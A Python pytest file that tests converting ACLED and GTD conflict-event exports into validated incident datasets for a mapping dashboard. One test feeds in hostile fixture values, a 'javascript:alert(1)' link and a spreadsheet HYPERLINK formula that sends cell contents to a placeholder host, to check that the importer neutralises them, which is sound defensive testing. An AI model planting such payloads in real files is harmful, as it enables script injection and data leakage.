"""ACLED and GTD exports converted into datasets that validate and load."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import pytest

from dashboard.data.importers import convert, detect_source
from dashboard.data.loading import load_incidents
from dashboard.data.schema import DatasetError, read_dataset, validate_file

BIN = Path(sys.executable).with_name("incident-map")

ACLED_COLUMNS = [
    "event_id_cnty", "event_date", "year", "time_precision", "disorder_type", "event_type",
    "sub_event_type", "actor1", "assoc_actor_1", "inter1", "actor2", "assoc_actor_2", "inter2",
    "interaction", "civilian_targeting", "iso", "region", "country", "admin1", "admin2", "admin3",
    "location", "latitude", "longitude", "geo_precision", "source", "source_scale", "notes",
    "fatalities", "tags", "timestamp",
]
ACLED_ROWS = [
    {"event_id_cnty": "UKR12345", "event_date": "2024-02-13", "time_precision": "1",
     "event_type": "Violence against civilians", "sub_event_type": "Attack",
     "actor1": "Unidentified Armed Group (Ukraine)", "inter1": "3", "actor2": "Civilians (Ukraine)",
     "iso": "804", "country": "Ukraine", "admin1": "Kyiv City", "location": "Kyiv",
     "latitude": "50.4547", "longitude": "30.5238", "geo_precision": "1",
     "source": "Ukrainska Pravda; Kyiv Independent", "notes": "A man was shot dead.", "fatalities": "1"},
    {"event_id_cnty": "ESP77", "event_date": "21 May 2025", "time_precision": "2",
     "event_type": "Strategic developments", "sub_event_type": "Arrests",
     "actor1": "Police Forces of Spain (2023-)", "inter1": "1", "iso": "724", "country": "Spain",
     "admin1": "Madrid", "location": "Pozuelo de Alarcón", "latitude": "40.4329",
     "longitude": "-3.8134", "geo_precision": "2", "source": "El País", "notes": "", "fatalities": "0"},
    {"event_id_cnty": "XKX9", "event_date": "2023-09-24", "time_precision": "3",
     "event_type": "Battles", "sub_event_type": "Armed clash", "inter1": "1", "iso": "0",
     "country": "Kosovo", "location": "Banjska", "latitude": "42.99", "longitude": "20.78",
     "geo_precision": "1", "source": "RTK", "fatalities": "4"},
    {"event_id_cnty": "BAD1", "event_date": "31 February 2024", "event_type": "Protests",
     "country": "Spain", "iso": "724", "latitude": "40", "longitude": "-3"},
    {"event_id_cnty": "BAD2", "event_date": "2024-03-01", "event_type": "Protests",
     "country": "Atlantis", "latitude": "", "longitude": ""},
]

GTD_COLUMNS = [
    "eventid", "iyear", "imonth", "iday", "country_txt", "provstate", "city", "latitude",
    "longitude", "specificity", "attacktype1_txt", "targtype1_txt", "target1", "gname",
    "guncertain1", "nkill", "summary", "scite1", "scite2", "scite3", "dbsource",
]
GTD_ROWS = [
    {"eventid": "201109160001", "iyear": "2011", "imonth": "9", "iday": "16",
     "country_txt": "Turkey", "provstate": "Istanbul", "city": "Istanbul", "latitude": "40.99",
     "longitude": "28.90", "specificity": "1", "attacktype1_txt": "Assassination",
     "target1": "Chechen exiles", "gname": "Unknown", "nkill": "3",
     "summary": "09/16/2011: Three men were shot.", "scite1": "\"Three shot\", Reuters; 2011"},
    {"eventid": "200611010001", "iyear": "2006", "imonth": "11", "iday": "0",
     "country_txt": "United Kingdom", "city": "London", "latitude": "51.51", "longitude": "-0.15",
     "specificity": "1", "attacktype1_txt": "Assassination", "gname": "Russian agents",
     "guncertain1": "1", "nkill": "0"},
    {"eventid": "197000000001", "iyear": "1970", "imonth": "0", "iday": "0",
     "country_txt": "West Germany (FRG)", "city": "Unknown", "latitude": "", "longitude": "",
     "specificity": "5", "attacktype1_txt": "Bombing/Explosion", "gname": "Unknown", "nkill": ""},
]


def write(path: Path, columns: list[str], rows: list[dict]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=columns)
        writer.writeheader()
        writer.writerows([{c: row.get(c, "") for c in columns} for row in rows])
    return path


@pytest.fixture
def acled_file(tmp_path):
    return write(tmp_path / "acled.csv", ACLED_COLUMNS, ACLED_ROWS)


@pytest.fixture
def gtd_file(tmp_path):
    return write(tmp_path / "gtd.csv", GTD_COLUMNS, GTD_ROWS)


def test_acled_rows_become_incidents(acled_file):
    result = convert(read_dataset(acled_file))
    assert result.source == "acled"
    rows = {row["id"]: row for row in result.incidents.to_dict(orient="records")}
    assert sorted(rows) == ["acled-esp77", "acled-ukr12345", "acled-xkx9"]
    kyiv = rows["acled-ukr12345"]
    assert (kyiv["date"], kyiv["date_precision"], kyiv["event_type"]) == ("2024-02-13", "day", "killing")
    assert (kyiv["country"], kyiv["lat"], kyiv["lon"], kyiv["geo_precision"]) == ("UA", "50.4547", "30.5238", "city")
    assert kyiv["sources"] == "ACLED event UKR12345; Ukrainska Pravda; Kyiv Independent"
    assert kyiv["attribution"] == "unknown" and kyiv["summary"] == "A man was shot dead."
    arrest = rows["acled-esp77"]
    assert (arrest["date"], arrest["date_precision"]) == ("2025-05", "month")  # a week is not a day
    assert (arrest["event_type"], arrest["attribution"], arrest["geo_precision"]) == ("arrest", "alleged", "region")
    assert arrest["place"] == "Pozuelo de Alarcón, Madrid, Spain"
    assert rows["acled-xkx9"]["country"] == "XK"


def test_acled_rows_that_cannot_be_converted_are_reported(acled_file):
    result = convert(read_dataset(acled_file))
    assert [str(p) for p in result.problems] == [
        'row 5, column event_date: "31 February 2024" is not a usable date; row left out',
        'row 6, column country: "Atlantis" is not a country we can code in ISO 3166-1; row left out',
    ]


def test_gtd_rows_become_incidents(gtd_file):
    result = convert(read_dataset(gtd_file))
    assert result.source == "gtd" and result.problems == []
    rows = {row["id"]: row for row in result.incidents.to_dict(orient="records")}
    istanbul = rows["gtd-201109160001"]
    assert (istanbul["date"], istanbul["event_type"], istanbul["fatalities"]) == ("2011-09-16", "killing", "3")
    assert istanbul["attribution"] == "unknown" and istanbul["country"] == "TR"
    assert istanbul["sources"] == 'GTD event 201109160001; "Three shot", Reuters, 2011'
    london = rows["gtd-200611010001"]
    assert (london["date"], london["date_precision"]) == ("2006-11", "month")
    assert (london["event_type"], london["attribution"]) == ("attempted_killing", "suspected")
    germany = rows["gtd-197000000001"]
    assert (germany["date"], germany["date_precision"], germany["country"]) == ("1970", "year", "DE")
    assert (germany["lat"], germany["geo_precision"], germany["place"]) == ("", "country", "West Germany (FRG)")


def test_unknown_tables_are_refused(tmp_path):
    path = tmp_path / "other.csv"
    path.write_text("a,b\n1,2\n", encoding="utf-8")
    assert detect_source(read_dataset(path)) == "table"
    with pytest.raises(DatasetError, match="no date or country column found among: a, b"):
        convert(read_dataset(path))


def test_import_command_writes_a_valid_dataset_and_keeps_existing_files(tmp_path, acled_file, gtd_file):
    out = tmp_path / "imported.csv"
    # 3 of 5 rows convert: below the 90% a plain import asks for, so --allow-partial
    refused = subprocess.run([str(BIN), "import", str(acled_file), "-o", str(out)],
                             capture_output=True, text=True, timeout=120)
    assert refused.returncode == 1 and "--allow-partial" in refused.stderr and not out.exists()
    result = subprocess.run([str(BIN), "import", str(acled_file), "-o", str(out),
                             "--allow-partial"], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert "3 incidents from ACLED" in result.stderr and "row 5, column event_date" in result.stderr
    assert validate_file(out) == []
    assert len(load_incidents(out)) == 3

    before = out.read_bytes()
    again = subprocess.run([str(BIN), "import", str(gtd_file), "-o", str(out)],
                           capture_output=True, text=True, timeout=120)
    assert again.returncode == 1 and "exists" in again.stderr and out.read_bytes() == before
    forced = subprocess.run([str(BIN), "import", str(gtd_file), "-o", str(out), "--force"],
                            capture_output=True, text=True, timeout=120)
    assert forced.returncode == 0 and len(load_incidents(out)) == 3 and validate_file(out) == []


def test_rows_after_a_blank_line_are_reported_under_their_spreadsheet_row(tmp_path):
    plain = write(tmp_path / "plain.csv", ACLED_COLUMNS, ACLED_ROWS)
    lines = plain.read_text(encoding="utf-8").splitlines()
    path = tmp_path / "acled.csv"
    path.write_text("\n".join(lines[:2] + [""] + lines[2:]) + "\n", encoding="utf-8")
    result = convert(read_dataset(path))
    assert [(p.row, p.column) for p in result.problems] == [(6, "event_date"), (7, "country")]
    assert len(result.incidents) == 3


def test_unusable_coordinates_are_reported_and_the_row_kept(tmp_path):
    rows = [dict(ACLED_ROWS[0], latitude="50,45"), dict(ACLED_ROWS[2], longitude="200")]
    result = convert(read_dataset(write(tmp_path / "acled.csv", ACLED_COLUMNS, rows)))
    assert [str(p) for p in result.problems] == [
        'row 2, column latitude: "50,45" is not a coordinate in decimal degrees between -90 and 90; '
        "the row is kept without coordinates",
        'row 3, column longitude: "200" is not a coordinate in decimal degrees between -180 and '
        "180; the row is kept without coordinates",
    ]
    assert result.incidents["lat"].tolist() == ["", ""]
    assert result.incidents["geocoder"].tolist() == ["", ""]


def test_a_gtd_date_that_does_not_exist_is_quoted(tmp_path):
    rows = [dict(GTD_ROWS[0], iday="30", imonth="2")]
    result = convert(read_dataset(write(tmp_path / "gtd.csv", GTD_COLUMNS, rows)))
    assert [str(p) for p in result.problems] == [
        'row 2, column iyear: "2011-2-30 (iyear-imonth-iday)" is not a usable date; row left out'
    ]


def test_import_never_writes_what_validate_refuses(tmp_path):
    """Rows validate would refuse are reported by row and left out; the rest is valid."""
    base = dict(ACLED_ROWS[0])
    rows = [
        base,
        {**base, "event_id_cnty": "FUT1", "event_date": "2999-01-01"},
        {**base, "event_id_cnty": "ZERO1", "event_date": "0000-01-01"},
        {**base, "event_id_cnty": "NEG1", "fatalities": "-5"},
        {**base, "event_id_cnty": "HUGE1", "fatalities": "9" * 30},
        {**base, "event_id_cnty": "JS1", "source": "javascript:alert(1)"},
        {**base, "event_id_cnty": "FORMULA1", "notes": '=HYPERLINK("http://x/?"&A1)',
         "location": "@SUM(A1)"},
    ]
    source = write(tmp_path / "acled.csv", ACLED_COLUMNS, rows)
    out = tmp_path / "out.csv"
    result = subprocess.run([str(BIN), "import", str(source), "-o", str(out), "--allow-partial"],
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    assert validate_file(out) == []
    ids = set(read_dataset(out)["id"])
    assert ids == {"acled-ukr12345", "acled-neg1", "acled-formula1"}
    for row in (3, 4, 6, 7):  # the refused rows, each named with its row number
        assert f"row {row}, " in result.stderr, result.stderr
    # a count that is not one is reported and left empty, never silently changed
    assert 'row 5, column fatalities: "-5" is not a count of zero or more' in result.stderr
    assert read_dataset(out).set_index("id").at["acled-neg1", "fatalities"] == ""
    # formula cells are neutralised in the file and read back as written
    assert "'=HYPERLINK" in out.read_text(encoding="utf-8")
    written = read_dataset(out).set_index("id").loc["acled-formula1"]
    assert written["summary"] == '=HYPERLINK("http://x/?"&A1)'


def test_import_that_converts_nothing_exits_1_and_writes_nothing(tmp_path):
    source = write(tmp_path / "acled.csv", ACLED_COLUMNS, ACLED_ROWS[3:])
    out = tmp_path / "out.csv"
    result = subprocess.run([str(BIN), "import", str(source), "-o", str(out)],
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 1
    assert "nothing converted" in result.stderr and not out.exists()
